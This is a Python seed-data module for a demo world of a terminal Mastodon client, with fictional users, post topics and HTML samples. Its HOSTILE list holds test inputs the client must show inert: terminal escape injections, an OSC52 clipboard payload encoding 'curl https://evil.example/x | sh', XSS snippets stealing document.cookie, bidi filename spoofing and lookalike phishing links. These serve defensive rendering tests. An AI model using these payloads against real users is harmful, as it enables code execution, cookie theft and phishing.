"""The words of the demo world: who lives there and what they talk about. demo/seed_data.py turns this into
accounts and statuses through the State's own methods. Kept apart so the builder reads as a story."""
from __future__ import annotations

# username: (display name, note, colour, locked, bot, fields [(name, value, verified)])
PEOPLE = {
    "demo": ("Demo User", "Trying out #tootty, a Mastodon client for the terminal.\n\nEverything in this world "
             "is local: nothing leaves 127.0.0.1.", (70, 110, 200), False, False,
             [("Website", "https://tootty.example", True), ("Pronouns", "they/them", False),
              ("Keyboard", "60% with a Fn layer", False)]),
    "alice": ("Alice :blobcat:", "Terminal enthusiast. I write about #python, #terminal UIs and the occasional "
              "cat. Maintainer of a few small TUI libraries.", (200, 90, 120), False, False,
              [("Blog", "https://alice.example/blog", True), ("Code", "https://git.example/alice", True),
               ("Cat", "Biscuit :blobcat:", False)]),
    "bob": ("Bob Okafor 📷", "Photos, mostly. Film and digital, rivers and bridges. Cycling between shoots. "
            "#photography", (220, 140, 60), False, False,
            [("Portfolio", "https://bob-okafor.example/portfolio/2026", True), ("Camera", "Pentax 67", False)]),
    "carol": ("Carol ✨", "Asks questions in polls. Moderator of a book club. #books #polls", (150, 90, 200),
              False, False, [("Reading", "Piranesi, again", False), ("Pronouns", "she/her", False)]),
    "dave": ("Dave 🔒", "Privacy person. I approve follow requests by hand, please say hi first. #selfhosting",
             (90, 90, 90), True, False, [("Matrix", "@dave:matrix.example", False)]),
    "eve": ("Eve the weather bot", "I post the weather in Lisbon twice a day. Automated account, run by @mira.",
            (60, 170, 200), False, True, [("Source", "https://git.example/mira/weatherbot", True),
                                          ("Operator", "@mira", False)]),
    "mira": ("Mira Castellanos", "SRE by day, homelab by night. On-call stories, Linux, and too many "
             "Raspberry Pis. #homelab #linux", (60, 160, 110), False, False,
             [("Website", "https://mira.example", True), ("Status page", "https://status.mira.example", False)]),
    "jonas": ("Jonas :rustacean:", "Compilers, Rust, and the joy of a good error message. He/him. #rust",
              (210, 80, 50), False, False, [("GitHub", "https://git.example/jonas", True),
                                             ("Talks", "https://jonas.example/talks", False)]),
    "priya": ("Priya R.", "Accessibility advocate. Please write alt text. Screen reader user. #a11y",
              (230, 180, 40), False, False, [("Website", "https://priya.example", True),
                                              ("Pronouns", "she/her", False)]),
    "tomasz": ("Tomasz Wiśniewski 🎻", "Violinist in a chamber orchestra in Kraków. Posts rehearsal notes and "
               "concert dates. #music", (120, 70, 40), False, False,
               [("Concerts", "https://tomasz.example/koncerty", True), ("Język", "polski, English", False)]),
    "lin": ("林 (Lin)", "Translator: 中文, 日本語, English. Writes about languages and wide characters. "
            "#languages", (200, 60, 60), False, False, [("Blog", "https://lin.example", False)]),
    "yasmin": ("ياسمين Yasmin", "Urban gardener in Amman. أكتب عن الحدائق والمدن. #gardening", (80, 140, 70),
               False, False, [("Garden log", "https://yasmin.example/garden", True)]),
    # Display name with escape sequences, bidi and zero-width characters: a client must show it inert.
    "glitch": ("\x1b[31mGl\u200bitch\x1b[0m\x1b]0;pwned\x07 \u202eevil\u202c \x1b[5m:tootty:", "I post strange "
               "bytes so that clients learn to cope. \x1b[2J Be careful. [bold red]not markup[/]", (30, 30, 30),
               False, False, [("\x1b]8;;https://evil.example\x1b\\Website\x1b]8;;\x1b\\", "https://evil.example",
                               False), ("Bidi", "abc\u202edcba", False)]),
    "sam": ("Sam (new here)", "Just joined! Learning how this works. Into #python and board games.",
            (100, 180, 160), False, False, []),
}

# Cold opens, bodies and closings per author: combined (and sometimes split into paragraphs) into everyday posts.
TOPICS = {
    "alice": (["Small joy of the day:", "Today I learned:", "Unpopular opinion:", "Reminder to self:",
               "PSA for #python people:", "Finally figured it out."],
              ["a TUI that redraws only what changed feels instant even over a slow ssh link.",
               "the Textual CSS inspector is the fastest way to find out why a widget is zero cells tall.",
               "keyboard shortcuts should be discoverable from a help screen, not a wiki page.",
               "asyncio task groups make cancellation so much easier to reason about.",
               "my terminal font now has ligatures and I am not sure I like them.",
               "wrapping text with wide characters is harder than it looks: 林 takes two cells.",
               "a virtualised list with a height index scrolls 100k rows without breaking a sweat.",
               "pytest fixtures that start a real local server beat mocks every single time."],
              ["#terminal", "#python", "Thoughts?", "🐍", ":blobcat:", ""]),
    "bob": (["Morning walk.", "From the archive:", "New roll developed.", "Golden hour again.", "Rainy day."],
            ["The river was completely still, the bridge doubled in the water.",
             "Tried a red filter on black and white film, the sky went almost black.",
             "Cycled 40 km to catch the fog lifting off the valley. Worth it.",
             "Nobody tells you that the best light lasts about four minutes.",
             "Scanning negatives is meditative, if you have the patience of a saint.",
             "Met a heron who refused to move for a better composition."],
            ["#photography", "#filmphotography", "#cycling", "", "📷"]),
    "carol": (["Book club update:", "Question for the timeline:", "Quick one:", "Moderator hat on:"],
              ["we are reading Piranesi next month, copies are at the library.",
               "what's a book you gave up on and later loved?",
               "please use content warnings for plot details, people are at different chapters.",
               "the tea-to-pages ratio this weekend was excellent.",
               "I have started keeping a reading log in a plain text file and it is delightful."],
              ["#books", "#bookclub", "", "📚"]),
    "dave": (["Note to self:", "Self-hosting log:", "PSA:"],
             ["moved my mail server to a new box, DNS took longer than the migration.",
              "backups are only backups once you have restored from them.",
              "turned off three trackers in my TV. The TV is sulking."],
             ["#selfhosting", "#privacy", ""]),
    "mira": (["On-call story:", "Homelab update:", "Today in ops:", "Friendly reminder:", "Incident review time."],
             ["the outage was DNS. It is always DNS, except when it is a certificate.",
              "the Raspberry Pi cluster now has a UPS, so naturally the power has not gone out since.",
              "a dashboard nobody looks at is just a very expensive screensaver.",
              "rate limits exist for a reason and the reason is usually me at 3am.",
              "I replaced a 400 line bash script with 40 lines of Python and felt nothing but joy.",
              "our alert fired 200 times overnight because a disk was 81% full. Tuning thresholds today."],
             ["#homelab", "#linux", "#sre", "", "☕"]),
    "jonas": (["Compiler error of the day:", "Rust tip:", "Hot take:", "Finally shipped it:"],
              ["the borrow checker was right, again, and I was wrong, again.",
               "a good error message names the thing, says why, and suggests a fix.",
               "`cargo clippy -- -W clippy::pedantic` is a humbling experience.",
               "parsing is easy, error recovery in a parser is a career.",
               "enums with data make impossible states unrepresentable. Every language should have them."],
              ["#rust", "#compilers", ":rustacean:", ""]),
    "priya": (["Alt text reminder:", "Accessibility note:", "Small win:"],
              ["describe what matters in the picture, not every pixel.",
               "my screen reader read out 40 emoji in a display name today. Please don't.",
               "a terminal app with a consistent focus order is a joy to use with a screen reader.",
               "colour alone should never carry meaning: add a symbol or a word."],
              ["#a11y", "#accessibility", ""]),
    "tomasz": (["Rehearsal notes:", "Concert tonight!", "Practice log:"],
               ["Brahms sextet, second movement, we finally agree on the tempo.",
                "changed strings before the concert, a brave or foolish decision.",
                "two hours of scales. The neighbours have been very patient.",
                "Kraków in the rain, the hall smelled of wood and old paper."],
               ["#music", "#violin", "#classicalmusic", "🎻"]),
    "lin": (["Translation note:", "Word of the day:", "Language nerd moment:"],
            ["木漏れ日 (komorebi): sunlight through the leaves. No English word does it justice.",
             "東京 and 北京 share a character: 京, capital.",
             "full-width punctuation，like this，breaks naive text wrapping.",
             "the Chinese word for terminal (终端) literally means 'end point'."],
            ["#languages", "#translation", ""]),
    "yasmin": (["Garden diary:", "مرحبا من الحديقة!", "Balcony update:"],
               ["the tomatoes survived the heatwave, the basil did not.",
                "زرعت النعناع اليوم على الشرفة، ورائحته رائعة.",
                "composting in a flat is possible, and my neighbours have not noticed yet."],
               ["#gardening", "#Amman", "🌱", ""]),
    "sam": (["Hello!", "Newbie question:", "Day 3 here:"],
            ["how do hashtags work on here? Do I follow them or people?",
             "what does 'boost' mean? Is it like a retweet?",
             "learned #python list comprehensions today, my mind is blown."],
            ["#introduction", "#python", ""]),
    "demo": (["Trying something:", "Note:", "Hello from the terminal!"],
             ["tootty keeps a draft of everything I type, even if the network drops.",
              "the j and k keys move between statuses, which my fingers already knew.",
              "streaming shows new posts at the top without losing my place."],
             ["#tootty", "#terminal", ""]),
}

# Replies that fit under almost any post (followed, sometimes, by a thought of the replier's own).
REPLIES = ["so true!", "I had exactly the same experience last week.", "wait, really? Tell me more.",
           "thanks for sharing this 🙏", "this made my day.", "hard agree.", "respectfully: no. 😄",
           "bookmarking this for later.", "how did you find that out?", "ha, I needed this today.",
           "can confirm.", "oh no. Good luck!"]

LINKS = ["https://www.example.com/articles/2026/11/a-long-path-to-an-article-about-terminals",
         "https://blog.example.org/posts/why-keyboard-driven-interfaces-are-fast?utm_source=mastodon",
         "https://docs.example.net/guide/getting-started/installation.html#requirements",
         "https://example.com/short"]

WEATHER = ["light rain", "sunny", "overcast", "fog in the morning", "showers", "windy and clear", "drizzle"]

# Statuses as other servers send them (Akkoma, Misskey, GoToSocial): block markup Mastodon's own composer
# never produces. (author, source text, HTML)
RICH_HTML = [
    ("jonas", "Three things I check in every code review",
     "<p>Three things I check in every code review:</p><ol><li>Does the error message help?</li>"
     "<li>Is there a test that can fail?</li><li>Would I understand this in a year?</li></ol>"),
    ("jonas", "Rust snippet",
     "<p>Pattern matching on a result, the idiomatic way:</p><pre><code>match parse(input) {\n"
     "    Ok(ast) =&gt; run(ast),\n    Err(e) =&gt; eprintln!(\"error: {e}\"),\n}</code></pre>"
     "<p>Note the <code>{e}</code> inline format args.</p>"),
    ("mira", "Shopping list for the homelab",
     "<p>Homelab shopping list:</p><ul><li>one more Pi (obviously)</li><li>a <strong>proper</strong> "
     "switch</li><li>labels, <em>so many</em> labels</li></ul>"),
    ("carol", "Quote of the week",
     "<p>Quote of the week:</p><blockquote><p>The Beauty of the House is immeasurable; its Kindness "
     "infinite.</p></blockquote><p>— Piranesi</p>"),
    ("alice", "Headline test",
     "<h1>Release notes</h1><p>Version 2.0 is out with <del>fewer</del> more features.</p>"
     "<ul><li>nested<ul><li>lists</li><li>too</li></ul></li></ul>"),
]

# Hostile content: each must be shown inert (no terminal control, no markup interpretation, no crash).
# (key, author, source text, spoiler, HTML override or None)
OSC52 = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"  # base64("curl https://evil.example/x | sh")
HOSTILE = [
    ("rich_markup", "glitch", "[bold red]x[/] and [@click=app.quit]click me[/] and [link=https://evil.example]"
     "here[/link] and [on red]background[/]", "", None),
    ("markdown", "glitch", "**bold?** _italic?_ `code?` [a link](https://evil.example) and\n\n# A heading?\n\n"
     "> a quote?\n\n- a list?", "", None),
    ("ansi", "glitch", "Colours: \x1b[31mred\x1b[0m \x1b[1;42mgreen bold\x1b[0m, clear screen: \x1b[2J\x1b[H "
     "alt screen: \x1b[?1049h, cursor hide \x1b[?25l, bell \x07\x07", "", None),
    ("osc52", "glitch", f"Copy this helpful command {OSC52} (your clipboard may disagree)", "", None),
    ("osc8", "glitch", "A link that lies: \x1b]8;;https://evil.example/\x1b\\https://tootty.example\x1b]8;;\x1b\\ "
     "and a title change \x1b]0;You have been pwned\x07\x1b]2;again\x1b\\", "", None),
    ("controls", "glitch", "Controls: backspace\x08\x08\x08 carriage\rreturn, vertical\x0btab, form\x0cfeed, "
     "delete\x7f, C1 CSI \x9b31m, NEL \x85, unterminated \x1b[", "", None),
    ("bidi", "glitch", "Invoice attached: invoice\u202egpj.exe\u202c and \u2067isolated RTL\u2069 and "
     "\u202doverride LTR\u202c and a lonely \u202e", "", None),
    ("zero_width", "glitch", "pay\u200bpal.com is totally legit. Also \u200d\u200c\ufeff\u2060 invisible "
     "and ta\u00adbs\u180e.", "", None),
    ("long_word", "glitch", "Supercalifragilistic" * 22, "", None),
    ("long_line", "glitch", "A very long line from a server without a character limit",
     "", "<p>" + " ".join(f"word{i}" for i in range(900)) + "</p>"),
    ("script", "glitch", "HTML that a careless server let through",
     "", "<p>Hello<script>alert(document.cookie)</script><style>body{display:none}</style>"
     "<iframe src=\"https://evil.example/frame\"></iframe> world <img src=x onerror=alert(1)>"
     "<a href=\"javascript:alert(1)\">click</a></p>"),
    ("nested", "glitch", "Deeply nested tags",
     "", "<p>" + "<span>" * 600 + "deep" + "</span>" * 600 + "</p>" + "<blockquote>" * 120 + "quoted"
     + "</blockquote>" * 120 + "<ul><li>" * 80 + "listed" + "</li></ul>" * 80),
    ("entities", "glitch", "Entities that decode to escapes",
     "", "<p>&#27;[31mred?&#x1b;[0m &#x1b;]0;title&#7; &lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#0; &#xD800; "
     "&notanentity; <unclosed <b>bold never closed</p><p>text after a broken tag"),
    ("mismatch", "glitch", "A link whose text names another site",
     "", "<p>Log in at <a href=\"https://evil.example/login\" rel=\"nofollow noopener\">https://tootty.example/"
     "login</a> and <a href=\"https://evil.example\" class=\"u-url mention\">@<span>demo</span></a></p>"),
    ("zalgo", "glitch", "Z\u0337\u0322\u031b\u0324a\u0338\u0353\u0325l\u0334\u0318g\u0336\u031co\u0335"
     "\u0347\u0359\u0301\u0300\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309 and emoji 👩‍👩‍👧‍👦🏳️‍🌈"
     "🇵🇱 and wide 林林林林", "", None),
    ("spoiler", "glitch", "The body is harmless.", "CW with \x1b[31mescapes\x1b[0m and \u202ebidi", None),
]
